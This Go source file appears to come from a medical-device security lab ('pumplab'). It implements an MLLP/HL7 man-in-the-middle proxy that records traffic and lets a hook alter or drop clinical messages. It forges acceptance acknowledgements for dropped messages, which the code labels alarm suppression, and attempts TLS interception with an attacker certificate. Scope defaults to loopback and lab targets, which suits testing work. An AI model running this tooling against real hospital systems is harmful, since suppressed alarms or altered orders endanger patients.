package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/pumplab/pumplab/simulators/hl7"
)

// Direction is the way a proxied message travels.
type Direction int

const (
	// ToServer: from the client that connected to the proxy towards the
	// upstream server (an order, an alert, an MQTT client's publish).
	ToServer Direction = iota + 1
	// ToClient: from the upstream server back to the client (an
	// acknowledgement, a broker's delivery).
	ToClient
)

func (d Direction) String() string {
	switch d {
	case ToServer:
		return "to-server"
	case ToClient:
		return "to-client"
	}
	return fmt.Sprintf("Direction(%d)", int(d))
}

// Frame is one MLLP frame the proxy saw.
type Frame struct {
	Conn uint64    // proxied connection, 1, 2, ...
	Dir  Direction // ToServer or ToClient
	Time time.Time // wall time the proxy read it
	// Data is the frame's content as received (without MLLP framing).
	Data []byte
	// Sent is what the proxy forwarded: Data itself, a tampered message,
	// or nil when it dropped the frame.
	Sent    []byte
	Changed bool
	Dropped bool
}

// ProxyStats counts what a proxy did.
type ProxyStats struct {
	Connections int64 // client connections accepted
	Forwarded   int64 // messages forwarded (changed ones included)
	Changed     int64 // messages forwarded with tampered content
	Dropped     int64 // messages not forwarded
	Forged      int64 // acknowledgements forged for dropped messages
	Unparsed    int64 // frames or packets that did not parse, forwarded unchanged
	TLSRefused  int64 // TLS interceptions the client (or the upstream) refused
}

type proxyCounters struct {
	conns, fwd, changed, dropped, forged, unparsed, tlsRefused atomic.Int64
}

func (c *proxyCounters) stats() ProxyStats {
	return ProxyStats{Connections: c.conns.Load(), Forwarded: c.fwd.Load(), Changed: c.changed.Load(),
		Dropped: c.dropped.Load(), Forged: c.forged.Load(), Unparsed: c.unparsed.Load(), TLSRefused: c.tlsRefused.Load()}
}

// MLLPProxyConfig configures an MLLP proxy. The zero value (with Upstream)
// captures and forwards everything unchanged on 127.0.0.1:0.
type MLLPProxyConfig struct {
	// Upstream is the server the proxy forwards to (a lab target).
	Upstream string
	// Listen is the proxy's own address, default 127.0.0.1:0 (a lab
	// address as well).
	Listen string
	// Targets is the safety rail; nil means loopback only.
	Targets *Targets
	// Tamper, when set, sees every message that parses (a clone it may
	// edit) and returns the message to forward (nil = the original bytes)
	// or drop = true to swallow it. Frames that do not parse are forwarded
	// unchanged.
	Tamper func(dir Direction, msg *hl7.Message) (out *hl7.Message, drop bool)
	// SilentDrop leaves the sender of a dropped ToServer message without a
	// reply. By default the proxy answers it with a forged accept
	// acknowledgement (CA when MSH-15 asks for one, else AA), so that the
	// sender believes it was delivered (alarm suppression, ATK-25).
	SilentDrop bool
	// Wall returns the time stamped on captured frames; nil means time.Now.
	Wall func() time.Time
	// Logger receives one line per tampered or dropped message; nil
	// discards.
	Logger *slog.Logger
	// InterceptTLS, when set, makes the proxy try TLS interception
	// (sslsplit-style): a client that opens with a TLS handshake is answered
	// with this server configuration (the attacker's own certificate, e.g.
	// from SelfSignedTLS), and the proxy connects upstream over TLS with
	// UpstreamTLS (nil: no client certificate, server not verified). Under
	// mutual TLS with pinned peers the client refuses the attacker's
	// certificate: the handshake fails and Stats().TLSRefused counts it.
	InterceptTLS *tls.Config
	UpstreamTLS  *tls.Config
}

// MLLPProxy is a man in the middle for MLLP: it accepts clients, connects
// each to Upstream, records every frame in both directions with its time,
// and lets Tamper change or drop messages.
type MLLPProxy struct {
	cfg MLLPProxyConfig
	log *slog.Logger
	proxyRun
	frames []Frame // guarded by mu
}

// NewMLLPProxy returns a proxy; Start makes it listen.
func NewMLLPProxy(cfg MLLPProxyConfig) *MLLPProxy {
	if cfg.Wall == nil {
		cfg.Wall = time.Now
	}
	log := cfg.Logger
	if log == nil {
		log = slog.New(slog.DiscardHandler)
	}
	return &MLLPProxy{cfg: cfg, log: log, proxyRun: proxyRun{conns: map[net.Conn]struct{}{}}}
}

// Start checks the upstream and listen addresses against the targets and
// starts accepting clients. ctx bounds the start only.
func (p *MLLPProxy) Start(ctx context.Context) error {
	return p.start(ctx, p.cfg.Targets, "mllp", p.cfg.Upstream, p.cfg.Listen, p.serve)
}

// Addr is the proxy's listen address (after Start).
func (p *MLLPProxy) Addr() string { return p.ln.Addr().String() }

// Frames returns the frames captured so far, in the order they were read.
func (p *MLLPProxy) Frames() []Frame {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]Frame(nil), p.frames...)
}

// Stats returns the counters.
func (p *MLLPProxy) Stats() ProxyStats { return p.cnt.stats() }

// Close stops accepting, closes every proxied connection and waits for the
// connection goroutines to end.
func (p *MLLPProxy) Close() error {
	return p.close()
}

// link is one proxied connection pair; writes to each side are serialised
// (forged acks and forwarded replies share the client side).
type link struct {
	id       uint64
	client   net.Conn
	upstream net.Conn
	cmu, umu sync.Mutex
}

func (l *link) write(dir Direction, b []byte) error {
	if dir == ToServer {
		l.umu.Lock()
		defer l.umu.Unlock()
		return hl7.WriteFrame(l.upstream, b)
	}
	l.cmu.Lock()
	defer l.cmu.Unlock()
	return hl7.WriteFrame(l.client, b)
}

func (p *MLLPProxy) serve(client net.Conn, id uint64) {
	defer p.wg.Done()
	defer client.Close()
	intercept := false
	if p.cfg.InterceptTLS != nil {
		pc := &peekConn{Conn: client, br: bufio.NewReader(client)}
		_ = client.SetReadDeadline(time.Now().Add(10 * time.Second))
		first, err := pc.br.Peek(1)
		_ = client.SetReadDeadline(time.Time{})
		if err != nil {
			return
		}
		client = pc
		if first[0] == 0x16 { // a TLS handshake record
			tc := tls.Server(pc, p.cfg.InterceptTLS)
			hctx, hcancel := context.WithTimeout(context.Background(), 10*time.Second)
			err := tc.HandshakeContext(hctx)
			hcancel()
			if err != nil {
				p.cnt.tlsRefused.Add(1)
				p.log.Info("mllp proxy: TLS interception refused by the client", "conn", id, "err", err)
				return
			}
			client, intercept = tc, true
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	up, err := p.cfg.Targets.Dial(ctx, "tcp", p.cfg.Upstream)
	cancel()
	if err != nil {
		p.log.Warn("mllp proxy: upstream", "conn", id, "err", err)
		return
	}
	if !p.track(up) {
		return
	}
	defer up.Close()
	if intercept {
		ucfg := p.cfg.UpstreamTLS
		if ucfg == nil {
			ucfg = &tls.Config{InsecureSkipVerify: true} // the attacker has no way to verify, and does not care
		}
		tu := tls.Client(up, ucfg)
		hctx, hcancel := context.WithTimeout(context.Background(), 10*time.Second)
		err := tu.HandshakeContext(hctx)
		hcancel()
		if err != nil {
			p.cnt.tlsRefused.Add(1)
			p.log.Info("mllp proxy: upstream refused the attacker's TLS", "conn", id, "err", err)
			return
		}
		up = tu
	}
	l := &link{id: id, client: client, upstream: up}
	done := make(chan struct{})
	go func() {
		defer close(done)
		p.pipe(l, ToClient, up)
		_ = client.Close()
	}()
	p.pipe(l, ToServer, client)
	_ = up.Close()
	<-done
	p.mu.Lock()
	delete(p.conns, client)
	delete(p.conns, up)
	p.mu.Unlock()
}

// pipe reads frames from src travelling in dir until src ends.
func (p *MLLPProxy) pipe(l *link, dir Direction, src net.Conn) {
	br := bufio.NewReader(src)
	for {
		data, err := hl7.ReadFrame(br, hl7.MaxMessageSize)
		if err != nil {
			if errors.Is(err, hl7.ErrMissingStartBlock) || errors.Is(err, hl7.ErrBadEndBlock) {
				continue // unframed bytes: a real MLLP peer discards them too
			}
			if !errors.Is(err, io.EOF) && !errors.Is(err, net.ErrClosed) {
				p.log.Debug("mllp proxy: read", "conn", l.id, "dir", dir, "err", err)
			}
			return
		}
		f := Frame{Conn: l.id, Dir: dir, Time: p.cfg.Wall(), Data: data, Sent: data}
		var orig *hl7.Message
		if m, perr := hl7.Parse(data); perr != nil {
			p.cnt.unparsed.Add(1)
		} else if p.cfg.Tamper != nil {
			orig = m
			out, drop := p.cfg.Tamper(dir, m.Clone())
			switch {
			case drop:
				f.Sent, f.Dropped = nil, true
			case out != nil && !bytes.Equal(out.Bytes(), m.Bytes()):
				f.Sent, f.Changed = out.Bytes(), true
			}
		}
		p.mu.Lock()
		p.frames = append(p.frames, f)
		p.mu.Unlock()
		if f.Dropped {
			p.cnt.dropped.Add(1)
			p.log.Info("mllp proxy: dropped", "conn", l.id, "dir", dir, "type", orig.Type().String(), "id", orig.ControlID())
			if dir == ToServer && !p.cfg.SilentDrop {
				code := hl7.AckAA
				switch orig.Get("MSH-15") {
				case "AL", "SU", "ER":
					code = hl7.AckCA
				}
				ack := hl7.BuildAck(orig, code, nil)
				ack.Stamp(p.cfg.Wall(), "")
				p.cnt.forged.Add(1) // counted before the write, so that a peer that saw it sees it counted
				if err := l.write(ToClient, ack.Bytes()); err != nil {
					p.cnt.forged.Add(-1)
					return
				}
			}
			continue
		}
		if f.Changed {
			p.cnt.changed.Add(1)
			p.log.Info("mllp proxy: changed", "conn", l.id, "dir", dir, "type", orig.Type().String(), "id", orig.ControlID())
		}
		p.cnt.fwd.Add(1)
		if err := l.write(dir, f.Sent); err != nil {
			p.cnt.fwd.Add(-1)
			return
		}
	}
}

// peekConn is a connection whose first bytes were peeked.
type peekConn struct {
	net.Conn
	br *bufio.Reader
}

func (c *peekConn) Read(b []byte) (int, error) { return c.br.Read(b) }
